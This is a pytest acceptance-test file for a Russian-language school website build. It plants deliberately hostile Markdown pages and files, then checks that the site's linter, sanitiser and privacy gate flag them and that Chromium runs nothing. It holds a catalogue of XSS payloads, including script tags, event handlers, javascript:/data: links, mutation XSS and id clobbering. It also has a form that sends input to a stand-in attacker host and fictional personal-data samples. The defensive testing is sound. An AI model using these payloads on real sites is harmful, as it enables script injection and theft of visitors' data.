"""Acceptance: pages written as a hostile (or careless) contributor would
write them, one page per kind of attack, planted in a copy of the project.

For each page: `make check` names the file, or the build's sanitiser or
privacy gate fails naming it (both, where both can see it); and the page as
the build would publish it runs nothing in Chromium: no dialog opens and no
request leaves the site. The copy is built once, with the gates reporting
instead of failing, so the refused pages can still be opened.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from openpyxl import Workbook
from playwright.sync_api import Browser

from common.personal_data import PublicContacts
from common.problem import Problem
from postbuild import privacy_gate
from render.core import NOTICE
from support.checks import picture, run_check
from support.commands import run_program
from support.project import PREFIX_URL, build_copy_past_gates, copy_project
from support.site import BuiltSite, serve

EVIL = "https://evil.example.org"
# name → (front matter, text, words `make check` says, words the build says);
# None where that side cannot see the fault.
ATTACKS: dict[str, tuple[str, str, str | None, str | None]] = {
    "attribute-list-href": (
        "",
        '[Урок.РФ](https://урок.рф/){: href="javascript:alert(document.domain)" }',
        "ссылка javascript:",
        "ссылка javascript:",
    ),
    "escaped-backtick": ("", r"\`<img src=x onerror=alert(1)>\`", "атрибут onerror=", "onerror="),
    "indented-fence": (
        "",
        "    ```\n<script>alert(1)</script>\n    ```",
        "<script> в тексте",
        "<script>",
    ),
    "iframe-srcdoc": (
        "",
        '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
        "<iframe> встраивает",
        "<iframe>",
    ),
    "description-breakout": (
        "description: '\"><script>alert(1)</script><meta x=\"'",
        "Текст.",
        "шапка, «description»",
        None,  # the templates escape it: nothing breaks out
    ),
    "title-breakout": (
        "title: '</title><script>alert(1)</script>'",
        "Текст.",
        "шапка, «title»",
        None,
    ),
    "generator-comment": (
        "",
        NOTICE + "\n<script>alert(1)</script>",
        "<script> в тексте",
        "<script>",
    ),
    "object": ("", f'<object data="{EVIL}/x.swf"></object>', "<object> встраивает", "<object>"),
    "embed": ("", f'<embed src="{EVIL}/x.swf">', "<embed> встраивает", "<embed>"),
    "meta-refresh": (
        "",
        f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
        "<meta> в тексте страницы не допускается",
        "<meta>",
    ),
    "base": (
        "",
        f'<base href="{EVIL}/">\n\n[Положение](../policy.md)',
        "<base> в тексте",
        "<base>",
    ),
    "form": (
        "",
        f'<form action="{EVIL}/steal"><input name="q"><button>OK</button></form>',
        "<form> в тексте",
        "<form>",
    ),
    "style-element": (
        "",
        f"<style>body{{background:url({EVIL}/t.png)}}</style>",
        "<style> в тексте",
        "<style>",
    ),
    "style-attribute": (
        "",
        f'<p style="background:url({EVIL}/t.png)">Текст</p>',
        "атрибут style=",
        "style=",
    ),
    "external-image": (
        "",
        f"![Фото]({EVIL}/t.png)",
        "картинка с другого сайта",
        "картинка с другого сайта",
    ),
    "protocol-relative-image": (
        "",
        '<img src="//evil.example.org/t.png" alt="Фото">',
        "картинка с другого сайта",
        "картинка с другого сайта",
    ),
    "image-srcset": (
        "",
        f'<img src="../../assets/images/favicon.svg" srcset="{EVIL}/t.png 2x" alt="Знак">',
        "атрибут srcset=",
        "srcset=",
    ),
    "external-stylesheet": (
        "",
        f'<link rel="stylesheet" href="{EVIL}/x.css">',
        "<link> в тексте",
        "<link>",
    ),
    "svg-use": ("", f'<svg><use href="{EVIL}/s.svg#x"/></svg>', "<use> в тексте", "<use>"),
    "video": ("", f'<video src="{EVIL}/v.mp4" autoplay></video>', "<video> в тексте", "<video>"),
    "entity-javascript": (
        "",
        '<a href="jav&#x09;ascript:alert(1)">Инфоурок</a>',
        "ссылка javascript:",
        "ссылка javascript:",
    ),
    "vbscript": (
        "",
        '<a href="vbscript:msgbox(1)">Ссылка</a>',
        "ссылка vbscript:",
        "ссылка vbscript:",
    ),
    "data-url": (
        "",
        "[Открыть](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "адрес data:",
        "адрес data:",
    ),
    "svg-script": ("", "<svg><script>alert(1)</script></svg>", "<script> в тексте", "<script>"),
    "details-ontoggle": (
        "",
        '<details open ontoggle="alert(1)"><summary>Подробнее</summary>Текст</details>',
        "атрибут ontoggle=",
        "ontoggle=",
    ),
    "markdown-in-html-onclick": (
        "",
        '<div markdown="1" onclick="alert(1)">**Текст**</div>',
        "атрибут onclick=",
        "onclick=",
    ),
    "mutation-xss": (
        "",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "атрибут onerror=",
        "onerror=",
    ),
    "content-marker-forgery": (
        "",
        f'<!--/site:content--><form action="{EVIL}/"><input name="q"></form><!--site:content-->',
        "<form> в тексте",
        "служебная метка",
    ),
    # Content that names itself as the theme's own elements, found first by
    # the site's script: its configuration, search, panels.
    "theme-id-config": (
        "",
        '<div id="__config">{"search": "https://evil.example.org/worker.js"}</div>',
        "id «__config»",
        "id «__config»",
    ),
    "theme-id-attribute-list": ("", '{"lang": "evil"}\n{: #__site }', "id «__site»", "id «__site»"),
    "theme-id-heading": ("", "## Поиск {#__search}", "id «__search»", "id «__search»"),
    "theme-id-overrides": (
        "",
        '<div id="site-a11y">Настройки</div>',
        "id «site-a11y»",
        "id «site-a11y»",
    ),
    # Personal data: the one detector in `make check` and in the privacy gate.
    "phone-with-nbsp": (
        "",
        "Звоните: 8&nbsp;928&nbsp;123&nbsp;45&nbsp;67.",
        "номер телефона",
        "номер телефона",
    ),
    # Split by Markdown, the number is whole only in the built page (and in
    # its search entry and its PDF).
    "phone-split-by-bold": ("pdf: true", "Звоните: 8 928 **123 45 67**.", None, "номер телефона"),
    "whatsapp-link": ("", "[Написать](https://wa.me/79281234567)", "номер телефона", "телефона"),
    "tel-link": ("", "[Позвонить](tel:+79281234567)", "номер телефона", "телефона"),
    "email-entities": ("", "Почта: ivanova&#64;mail&#46;ru", "адрес электронной почты", "почты"),
    "email-split-by-tag": ("", "Почта: ivanova<span>@</span>mail.ru", None, "почты"),
    "snils": ("", "СНИЛС ученика: 112-233-445 95", "СНИЛС", "СНИЛС"),
    "passport": ("", "Паспорт: 45 10 123456", "паспорта", "паспорта"),
    "local-phone": ("", "Секретарь, тел. 22-1-33.", "номер телефона", "номер телефона"),
    "phone-thin-spaces": (
        "",
        "Звоните: 8&thinsp;928&thinsp;123\u200945\u200b67.",
        "номер телефона",
        "номер телефона",
    ),
    "passport-numbered": ("", "Паспорт 4510 № 123456.", "паспорта", "паспорта"),
    "pupil-in-capitals": (
        "",
        "ИВАНОВ ИВАН ИВАНОВИЧ 12.03.2014, 5 «А» класс.",
        "имя с датой рождения",
        "имя с датой рождения",
    ),
    "pupil-birth-date": (
        "",
        "Иванов Иван Иванович, 12.03.2014 г. р., 5 «А» класс.",
        "имя с датой рождения",
        "имя с датой рождения",
    ),
}
SECRETS = (
    "928 123 45 67",
    "9281234567",
    "ivanova",
    "112-233-445",
    "123456",
    "Иванов",
    "ИВАНОВ",
    "22-1-33",
    "4510",
)


SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n{}\n</svg>\n'


def _bytes(data: bytes | str) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(data.encode() if isinstance(data, str) else data)


def _workbook(path: Path) -> None:
    """A class list as a school keeps it: names and birth dates."""
    book = Workbook()
    book.active.append(["ИВАНОВ ИВАН ИВАНОВИЧ", "12.03.2014", "тел. 22-1-33"])
    book.save(path)


# Files beside the pages, which MkDocs would copy into the site as they are:
# name → (how it is written, line, words `make check` and the build both say).
FILES: dict[str, tuple[Callable[[Path], object], int, str]] = {
    "drawing-script.svg": (
        _bytes(SVG.format("<script>alert(document.domain)</script>")),
        2,
        "<script> в SVG",
    ),
    "drawing-handler.svg": (
        _bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        1,
        "атрибут onload= у <svg> в SVG запускает скрипт",
    ),
    "drawing-outside.svg": (
        _bytes(SVG.format(f'<image href="{EVIL}/t.png" width="10" height="10"/>')),
        2,
        "<image> в SVG не допускается",
    ),
    "raw-page.html": (
        _bytes('<!doctype html><meta charset="utf-8"><script>alert(1)</script>'),
        1,
        "HTML-файл публиковался бы как есть",
    ),
    "pupils.xlsx": (_workbook, 1, "документ «.xlsx» не публикуется"),
    "order.docx": (_bytes(b"PK\x03\x04 word/document.xml"), 1, "документ «.docx» не публикуется"),
    "scan.pdf": (_bytes(b"%PDF-1.4\n%%EOF\n"), 1, "PDF не публикуется"),
    "photo.jpg": (lambda path: picture(path, place=True), 1, "место съёмки (GPS)"),
}
# Pictures the site may publish, beside them.
CLEAN_FILES: dict[str, Callable[[Path], object]] = {
    "chart.svg": _bytes(SVG.format('<rect width="10" height="5" fill="#3f51b5"/>')),
    "photo-clean.jpg": picture,
}
FILES_AT = "docs/ru/planted/files"


def planted_path(name: str) -> str:
    return f"docs/ru/planted/{name}.md"


def plant(project: Path) -> None:
    for name, (front, text, _, _) in ATTACKS.items():
        head = f"---\n{front}\n---\n\n" if front else ""
        path = project / planted_path(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"{head}# Страница {name}\n\n{text}\n", "utf-8")
    (project / FILES_AT).mkdir(parents=True)
    for name, write in [*((n, w) for n, (w, _, _) in FILES.items()), *CLEAN_FILES.items()]:
        write(project / FILES_AT / name)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, BuiltSite, list[Problem]]:
    return build_copy_past_gates(tmp_path_factory, "hostile", plant)


@pytest.fixture(scope="module")
def check_report(hostile: tuple[Path, BuiltSite, list[Problem]]) -> list[str]:
    result = run_check("docs", cwd=hostile[0])
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    return result.stdout.splitlines()


@pytest.fixture(scope="module")
def hostile_served(hostile: tuple[Path, BuiltSite, list[Problem]]) -> Iterator[str]:
    with serve(hostile[1]) as url:
        yield url


@pytest.mark.parametrize("name", ATTACKS)
def test_check_or_build_names_the_planted_page(
    name: str, check_report: list[str], hostile: tuple[Path, BuiltSite, list[Problem]]
) -> None:
    _, _, check_words, build_words = ATTACKS[name]
    said_by_check = [line for line in check_report if line.startswith(planted_path(name) + ":")]
    said_by_build = [str(p) for p in hostile[2] if p.source == planted_path(name)]
    assert said_by_check or said_by_build, f"nothing names {planted_path(name)}"
    if check_words:
        assert any(check_words in line for line in said_by_check), said_by_check
        assert all(re.match(rf"{re.escape(planted_path(name))}:\d+: ", x) for x in said_by_check)
    if build_words:
        assert any(build_words in line for line in said_by_build), (said_by_build, hostile[2])


def test_only_planted_pages_are_named(
    check_report: list[str], hostile: tuple[Path, BuiltSite, list[Problem]]
) -> None:
    planted = {planted_path(name) for name in ATTACKS} | {f"{FILES_AT}/{name}" for name in FILES}
    assert {line.split(":")[0] for line in check_report} <= planted
    assert {problem.source for problem in hostile[2]} <= planted


def test_no_report_repeats_a_personal_datum(
    check_report: list[str], hostile: tuple[Path, BuiltSite, list[Problem]]
) -> None:
    told = "\n".join([*check_report, *map(str, hostile[2])])
    for secret in SECRETS:
        assert secret not in told


@pytest.mark.parametrize("name", FILES)
def test_check_and_build_name_each_refused_file(
    name: str, check_report: list[str], hostile: tuple[Path, BuiltSite, list[Problem]]
) -> None:
    _, line, words = FILES[name]
    where = f"{FILES_AT}/{name}:{line}: "
    assert any(told.startswith(where) and words in told for told in check_report), check_report
    assert any(str(p).startswith(where) and words in str(p) for p in hostile[2]), hostile[2]


def test_refused_files_are_left_out_of_the_site_and_clean_pictures_published(
    hostile: tuple[Path, BuiltSite, list[Problem]],
) -> None:
    published = hostile[1].root / "planted" / "files"
    assert sorted(path.name for path in published.iterdir()) == sorted(CLEAN_FILES)


@pytest.mark.parametrize("name", [name for name in FILES if name.endswith((".svg", ".html"))])
def test_a_refused_file_runs_nothing_in_chromium(
    name: str, browser: Browser, hostile_served: str
) -> None:
    dialogs, elsewhere, status = visit(browser, hostile_served, f"planted/files/{name}")
    assert status == 404, "a refused file is not published"
    assert not dialogs, f"a dialog opened: {dialogs}"
    assert not elsewhere, f"requests left the site: {elsewhere}"


def test_the_theme_finds_its_own_elements_by_their_ids(
    browser: Browser, hostile_served: str
) -> None:
    context = browser.new_context()
    tab = context.new_page()
    for name in [name for name in ATTACKS if name.startswith("theme-id-")]:
        tab.goto(f"{hostile_served}planted/{name}/")
        found = tab.evaluate(
            """ids => ids.map(id => {
                 const el = document.getElementById(id);
                 return el && !el.closest("article") ? el.tagName : "content: " + id;
               })""",
            ["__config", "__site", "__search", "site-a11y"],
        )
        assert found == ["SCRIPT", "SCRIPT", "INPUT", "SECTION"], (name, found)
    context.close()


@pytest.mark.parametrize("name", ATTACKS)
def test_planted_page_runs_nothing_in_chromium(
    name: str, browser: Browser, hostile_served: str
) -> None:
    dialogs, elsewhere, _ = visit(browser, hostile_served, f"planted/{name}/")
    assert not dialogs, f"a dialog opened: {dialogs}"
    assert not elsewhere, f"requests left the site: {elsewhere}"


def visit(browser: Browser, served: str, path: str) -> tuple[list[str], list[str], int]:
    """Open `path` as a reader would, moving over and clicking its text:
    (the dialogs that opened, the requests to other hosts, the status)."""
    context = browser.new_context()
    tab = context.new_page()
    dialogs: list[str] = []
    elsewhere: list[str] = []
    site = urlsplit(served).netloc

    def route(route_) -> None:  # type: ignore[no-untyped-def]
        url = urlsplit(route_.request.url)
        # chrome:// and chrome-extension:// are the browser's own (its PDF viewer).
        if url.netloc == site or url.scheme not in ("http", "https", "ws", "wss", "ftp"):
            route_.continue_()
        else:
            elsewhere.append(route_.request.url)
            route_.abort()

    context.route("**/*", route)
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    response = tab.goto(served + path)
    # What a reader would do: move over and click the text; a link to a
    # script runs only when clicked.
    tab.evaluate(
        """selector => document.querySelectorAll("article *").forEach(el => {
             el.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
             if (el.matches(selector)) el.click();
           })""",
        "a:not([href^='http']):not([href^='.']):not([href^='#']):not([href$='.pdf'])",
    )
    tab.wait_for_timeout(300)
    context.close()
    return dialogs, elsewhere, response.status if response else 0


def test_privacy_gate_reads_search_index_and_pdf(
    hostile: tuple[Path, BuiltSite, list[Problem]],
) -> None:
    leaks = privacy_gate.scan(hostile[1].root, PublicContacts())
    split_phone = "ru/planted/phone-split-by-bold"
    where = {leak.path for leak in leaks if leak.found.kind.value == "phone number"}
    assert "search/search_index.json" in where
    assert any(path.startswith(split_phone.removeprefix("ru/")) for path in where)
    assert any(path.endswith(".pdf") for path in where), where


def test_the_build_fails_on_a_planted_page_naming_its_source(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    page = project / "docs" / "ru" / "policy.md"
    lines = page.read_text("utf-8").splitlines()
    page.write_text("\n".join([*lines, "", "<script>alert(1)</script>", ""]), "utf-8")
    result = run_program(
        "build_site.py", "--project", project, "--site-dir", tmp_path / "site",
        "--site-url", PREFIX_URL,
    )  # fmt: skip
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        "Сайт не собран:",
        f"docs/ru/policy.md:{len(lines) + 2}: небезопасный HTML: <script> в тексте страницы не "
        "допускается (убрано со страницы policy/index.html)",
    ]


ENGLISH = re.compile(r"\b(?:the|of|is|not|from|holds|removed|another|site|runs|page)\b")


def test_every_problem_is_told_in_russian(
    check_report: list[str], hostile: tuple[Path, BuiltSite, list[Problem]]
) -> None:
    for told in [*check_report, *(str(problem) for problem in hostile[2])]:
        # What it quotes (an id, a tag, an address, a page) aside.
        message = re.sub(r"«[^»]*»|<[^>]*>|\S+/\S*", "", told.split(": ", 1)[1])
        assert re.search("[а-яё]", message) and not ENGLISH.search(message), told


def test_the_preview_tells_a_planted_page_after_every_edit(tmp_path: Path) -> None:
    """The preview builds again after each edit, redoing the page pass only
    for pages that came out different: what an unchanged page holds (unsafe
    HTML, a phone number) is still told on every later build, and is gone
    once the page is fixed."""
    from sitebuild.build import BuildError
    from sitebuild.preview import Preview

    project = copy_project(tmp_path / "project")
    preview = Preview(project, tmp_path / "site", "http://127.0.0.1:8000/")
    preview.build()
    page = project / "docs" / "ru" / "policy.md"
    clean = page.read_text("utf-8")
    page.write_text(f"{clean}\n<script>alert(1)</script>\n\nТелефон 8 928 123-45-67.\n", "utf-8")
    told = []
    for edit in ("docs/ru/policy.md", "docs/ru/contacts.md", "docs/ru/contacts.md"):
        if edit.endswith("contacts.md"):
            other = project / edit
            other.write_text(other.read_text("utf-8") + "\nЕщё абзац.\n", "utf-8")
        with pytest.raises(BuildError) as failed:
            preview.build({edit})
        told.append(failed.value.detail)
    assert told[0] == told[1] == told[2]
    assert "<script>" in told[0] and "телефон" in told[0].lower(), told[0]
    assert all(line.startswith("docs/ru/policy.md:") for line in told[0].splitlines())
    page.write_text(clean, "utf-8")
    preview.build({"docs/ru/policy.md"})
